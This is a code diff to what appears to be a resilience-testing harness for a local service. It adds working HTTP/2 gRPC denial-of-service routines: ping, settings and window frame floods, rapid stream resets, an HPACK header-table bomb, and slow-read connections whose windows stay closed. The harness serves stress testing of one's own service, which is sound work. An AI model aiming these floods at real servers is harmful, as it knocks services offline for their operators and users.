@@ -21,8 +21,8 @@ DOMAIN = b"domain-attacker00000"
 
 
 class Attack:
-    def __init__(self, ttrpc, http, seed, seconds, schema, report):
-        self.ttrpc, self.http, self.schema = ttrpc, http, schema
+    def __init__(self, ttrpc, http, grpc, seed, seconds, schema, report):
+        self.ttrpc, self.http, self.grpc, self.schema = ttrpc, http, grpc, schema
         self.random = random.Random(seed)
         self.seed = seed
         self.until = time.monotonic() + seconds
@@ -378,6 +378,69 @@ def http_flood(attack):
     attack.threads(8, body)
 
 
+def grpc_floods(attack):
+    """Frames that cost their sender nothing, calls that are withdrawn, headers that grow: over HTTP/2."""
+    call = _h2_call(1, b"get", field(1, DOMAIN) + field(2, b"report-000000000000"))
+    reset = _h2(3, 0, 1, (8).to_bytes(4, "big"))
+    # HPACK: an entry of the table, and then a byte for each time that it is meant.
+    bomb = _h2_headers(1, b"get", tail=b"\x40\x01b\x7f\xa1\x1e" + b"y" * 4000 + b"\xbe" * 12_000)
+    floods = [
+        _h2(6, 0, 0, bytes(8)) * 5000, _h2(4, 0, 0, b"") * 5000, _h2(8, 0, 0, b"\0\0\0\1") * 5000,
+        _h2(2, 0, 1, b"\0\0\0\0\1") * 5000, bomb, _h2_headers(1, b"get") + _h2(0, 0, 1, b"") * 5000,
+        b"".join(_h2_call(2 * each + 1, b"list", field(1, DOMAIN)) + _h2(3, 0, 2 * each + 1, reset[-4:])
+                 for each in range(2000)),
+        b"".join(_h2_call(2 * each + 1, b"get", call[:20]) for each in range(2000)),
+    ]
+
+    def body(index):
+        while attack.goes_on:
+            with contextlib.closing(connect(attack.grpc, attack.source(index), 1)) as peer:
+                _send_some(peer, H2_PREFACE + attack.random.choice(floods), 1)
+
+    attack.threads(8, body)
+
+
+def grpc_unread(attack):
+    """Lists and long messages over HTTP/2, with windows that stay closed."""
+    calls = b"".join(
+        _h2_call(2 * each + 1, b"list", field(1, DOMAIN)) for each in range(500))
+    half = b"".join(
+        _h2_headers(2 * each + 1, b"create") + _h2(0, 0, 2 * each + 1, b"\0\0\x3f\xff\0" + bytes(8000))
+        for each in range(500))
+    peers = []
+    for index in range(200):
+        if not attack.goes_on:
+            break
+        with contextlib.suppress(OSError):
+            peer = connect(attack.grpc, attack.source(index), 2, receive_buffer=2048)
+            peers.append(peer)
+            _send_some(peer, H2_PREFACE + (half if index % 2 else calls), 0.2)
+    attack.tell("note", f"{len(peers)} connections")
+    attack.rest()
+
+
+H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
+
+
+def _h2(kind, flags, stream, payload):
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def _h2_headers(stream, method, tail=b""):
+    def literal(name, value):
+        return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+    block = (literal(b":method", b"POST") + literal(b":scheme", b"http") + literal(b":authority", b"x") +
+             literal(b":path", b"/" + REPORT.encode() + b"/" + method) +
+             literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers") + tail)
+    return _h2(1, 4, stream, block)
+
+
+def _h2_call(stream, method, message):
+    return _h2_headers(stream, method) + _h2(
+        0, 1, stream, b"\0" + len(message).to_bytes(4, "big") + message)
+
+
 def _http_hold(attack, greet, drip=b""):
     peers = []
     for index in range(2000):
@@ -411,12 +474,13 @@ def _send_some(peer, data, seconds):
             time.sleep(0.01)
 
 
-def halves(ttrpc, http):
+def halves(ttrpc, http, grpc):
     """Half a frame and half a request: (name, socket, since when)."""
     made = []
     for name, address, data in (
             ("half a frame", ttrpc, frame(1, b"x" * 10, length=1000)), ("half a header", ttrpc, b"\0\0"),
-            ("half a request", http, b"GET /check HTTP/1.1\r\nHost:")):
+            ("half a request", http, b"GET /check HTTP/1.1\r\nHost:"),
+            ("half a call", grpc, H2_PREFACE + _h2_headers(1, b"get"))):
         peer = connect(address, "127.0.0.250")
         peer.sendall(data)
         made.append((name, peer, time.monotonic()))
@@ -447,4 +511,5 @@ ATTACKS = {
     "half-frames": half_frames, "slow-bytes": slow_bytes, "connections": connections,
     "creates": creates, "slow-runs": slow_runs, "garbage": garbage, "hang-ups": hang_ups,
     "metadata": metadata, "http-silent": http_silent, "http-half": http_half, "http-flood": http_flood,
+    "grpc-floods": grpc_floods, "grpc-unread": grpc_unread,
 }
